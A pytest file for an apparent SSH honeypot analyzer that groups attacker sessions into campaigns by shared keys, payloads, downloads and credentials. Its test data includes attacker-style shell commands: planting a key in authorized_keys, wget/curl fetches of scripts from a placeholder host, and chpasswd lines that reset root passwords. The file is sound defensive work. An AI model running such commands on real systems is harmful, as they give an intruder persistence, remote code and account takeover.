"""Sessions joined by what they share, and not by what everybody shares; and what comes back."""

import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from hermes import events
from hermes.analysis import keys
from hermes.analysis.campaigns import Campaigns
from hermes.analysis.stage import Gone
from hermes.store.follow import Position
from tests.unit.analysis.test_scans import KEY, FakeScanner, look, scans
from tests.unit.analysis.world import GO, OPENSSH, World, artifact

PLANT = f'cd ~ && mkdir .ssh && echo "{KEY} x">>.ssh/authorized_keys && chmod -R go= ~/.ssh'
FINGERPRINT = keys.fingerprint(KEY) or ""


class Joined(World):
    """A world in which campaigns are seen."""

    def __init__(self, path: Path) -> None:
        path.mkdir(exist_ok=True)
        campaigns = Campaigns()
        self.scans = scans(FakeScanner(), path, campaigns.scanned)
        super().__init__(path, [self.scans, campaigns])

    def look(self) -> None:
        look(self, self.scans)

    def campaign(self, session: str) -> int:
        ((campaign,),) = self.rows("SELECT campaign FROM campaigns WHERE session_id = ?", session)
        return int(campaign)

    def partition(self) -> dict[str, int]:
        return dict(self.rows("SELECT session_id, campaign FROM campaigns"))


@pytest.fixture
def world(tmp_path: Path) -> Joined:
    return Joined(tmp_path)


def offered(connection: str, *, accepted: bool) -> events.Event:
    """The key that was planted, offered."""
    return events.AuthAttempt(
        method="publickey", username="root", accepted=accepted, rule="public-key", key_fingerprint=FINGERPRINT,
        connection_id=connection,
    )  # fmt: skip


SHARED: dict[str, Callable[[Joined], str]] = {
    "key": lambda it: it.session(PLANT),
    "payload": lambda it: it.session(more=[artifact("payload")]),
    "download": lambda it: it.session(f"wget http://192.0.2.66/a{random.random()}; curl -O http://192.0.2.66/bins.sh"),
    "commands": lambda it: it.session("cd /tmp", "cat /proc/cpuinfo | wc -l", f"echo {random.random()} > .x", "crontab -l", "w"),
    "login": lambda it: it.session(user="345gs5662d34", password="345gs5662d34"),
    "password": lambda it: it.session("echo 'root:hQ7vTz2mWd9x' | chpasswd"),
}


@pytest.mark.parametrize("kind", SHARED)
def test_sessions_that_share_a_trait_are_one_campaign_named_by_the_oldest(kind: str, world: Joined) -> None:
    before, first, between, second = world.session("uname -a"), SHARED[kind](world), world.session(), SHARED[kind](world)
    assert world.campaign(first) == world.campaign(second)
    assert len({world.campaign(it) for it in (before, first, between)}) == 3
    ((opened,),) = world.rows("SELECT session FROM campaigns WHERE session_id = ?", first)
    assert world.campaign(second) == opened
    assert world.happened[opened - 1].event == "session.opened"
    shared = world.rows("SELECT kind, count(*) FROM campaigns_traits GROUP BY kind, value HAVING count(*) > 1")
    assert (kind, 2) in shared


@pytest.mark.parametrize(
    "common",
    [
        lambda it: it.session(), lambda it: it.session("uname -a"), lambda it: it.session("uname -a", "uname -a", "whoami"),
        lambda it: it.session(password="123456"), lambda it: it.session(password="P@ssw0rd123"),
        lambda it: it.session(more=[artifact("e", size=3)]),
        lambda it: it.session(more=[artifact("dpkg", path="/var/lib/dpkg/status")]),
        lambda it: it.session("wget https://github.com/xmrig/xmrig/releases"),
        lambda it: it.session("echo 'root:123456' | chpasswd"),
        lambda it: it.session(failures=9),
    ],
)  # fmt: skip
def test_what_everybody_shares_joins_nobody(common: Callable[[Joined], str], world: Joined) -> None:
    sessions = [common(world) for _ in range(6)]
    assert len({world.campaign(it) for it in sessions}) == 6


def test_two_campaigns_become_one_and_the_older_name_stays(world: Joined) -> None:
    first, second = world.session(PLANT), world.session(more=[artifact("payload")])
    third, fourth = world.session(PLANT), world.session(more=[artifact("payload")])
    assert world.campaign(first) == world.campaign(third) != world.campaign(second) == world.campaign(fourth)
    name = world.campaign(first)
    joint = world.session(PLANT, more=[artifact("payload")])
    assert {world.campaign(it) for it in (first, second, third, fourth, joint)} == {name}


def test_a_credential_or_a_sequence_that_many_programs_know_joins_nobody_more(world: Joined) -> None:
    strange: dict[str, Any] = {"user": "345gs5662d34", "password": "345gs5662d34"}
    early = [world.session(hassh=f"{it:032x}", **strange) for it in range(4)]
    assert len({world.campaign(it) for it in early}) == 4, "a login is one by the same program"
    late = [world.session(hassh="f" * 32, **strange) for _ in range(3)]
    assert len({world.campaign(it) for it in late}) == 3
    steps = ["cd /tmp", "cat /proc/cpuinfo", "cat /proc/meminfo", "crontab -l", "w"]
    for number in range(5):
        world.session(*steps, hassh=f"{number + 50:032x}")
    assert world.campaign(world.session(*steps, hassh="d" * 32)) != world.campaign(world.session(*steps, hassh="e" * 32))


def test_the_same_journal_gives_the_same_campaigns_whenever_files_are_looked_at(world: Joined, tmp_path: Path) -> None:
    chance = random.Random(5)
    files = [artifact("keys", path="/root/.ssh/authorized_keys"), artifact("payload"), artifact("other")]
    for _ in range(40):
        commands = chance.sample([PLANT, "uname -a", "wget http://192.0.2.66/x.sh", "history -c", "cat /proc/cpuinfo"], 2)
        world.session(*commands, more=chance.sample(files, chance.randrange(2)), hassh=chance.choice([GO, OPENSSH]))
        if chance.random() < 0.2:
            world.look()
    world.look()
    again = Joined(tmp_path / "again")
    for place in range(0, len(world.happened), 37):
        batch = world.happened[place : place + 37]
        again.index.take(Position("j", batch[-1].id), batch)
    again.look()
    assert again.partition() == world.partition()
    assert len(set(again.partition().values())) < 40


def test_a_key_that_comes_back_names_both_sessions_and_joins_them(world: Joined) -> None:
    planter = world.session(PLANT)
    returned = world.session(key=FINGERPRINT)
    assert world.rows("SELECT kind, value, session_id, earlier, accepted FROM campaigns_returns") == [
        ("key", FINGERPRINT, returned, planter, 1)
    ]
    assert world.campaign(planter) == world.campaign(returned)


def test_a_key_that_was_found_in_a_file_comes_back_too(world: Joined) -> None:
    planter = world.session(more=[artifact("keys", path="/root/.ssh/authorized_keys")])
    world.look()
    returned = world.session(key=FINGERPRINT)
    assert world.rows("SELECT session_id, earlier FROM campaigns_returns") == [(returned, planter)]
    assert world.campaign(planter) == world.campaign(returned)


def test_a_key_that_comes_back_and_is_refused_is_seen(world: Joined) -> None:
    planter = world.session(PLANT)
    world.state(offered("c-x", accepted=False))
    assert world.rows("SELECT connection_id, session_id, earlier, accepted FROM campaigns_returns") == [("c-x", None, planter, 0)]


@pytest.mark.parametrize("how", ["chpasswd", "passwd", "typed"])
def test_a_password_that_an_earlier_session_set_comes_back(how: str, world: Joined) -> None:
    secret = "hQ7vTz2mWd9x"
    if how == "chpasswd":
        setter = world.session(f'echo "root:{secret}"|chpasswd|bash')
    elif how == "passwd":
        setter = world.session(f'echo -e "old\\n{secret}\\n{secret}"|passwd|bash')
    else:
        setter = world.session("passwd", secret, secret, typed=True)
    other_user = world.session(user="admin", password=secret)
    returned = world.session(password=secret)
    assert world.rows("SELECT kind, session_id, earlier FROM campaigns_returns") == [("password", returned, setter)]
    assert world.campaign(setter) == world.campaign(returned) != world.campaign(other_user)


def test_what_nobody_left_or_everybody_uses_does_not_come_back(world: Joined) -> None:
    world.session("echo 'root:123456789' | chpasswd")
    world.session(password="123456789")
    world.session(key=FINGERPRINT)
    world.session(PLANT)
    assert world.rows("SELECT * FROM campaigns_returns") == []


def test_a_session_does_not_come_back_to_itself(world: Joined) -> None:
    session = world.session(PLANT, closed=False)
    world.state(offered(f"c-{session}", accepted=True))
    assert world.rows("SELECT * FROM campaigns_returns") == []


def test_what_is_forgotten_leaves_the_name(world: Joined) -> None:
    first, second, third = (world.session(PLANT) for _ in range(3))
    name = world.campaign(first)
    world.index.forget(Gone([f"c-{first}"], [first], []))
    assert world.partition() == {second: name, third: name}
    assert world.campaign(world.session(PLANT)) == name
    world.index.forget(Gone([f"c-{second}", f"c-{third}"], [second, third], []))
    assert world.rows("SELECT count(*) FROM campaigns_planted") == [(1,)]


def test_a_session_has_a_bounded_number_of_traits(world: Joined) -> None:
    session = world.session(*(f"wget http://192.0.2.66/{it}.sh" for it in range(300)))
    ((count,),) = world.rows(
        "SELECT count(*) FROM campaigns_traits JOIN campaigns USING (session) WHERE session_id = ?", session
    )  # fmt: skip
    assert count == 200
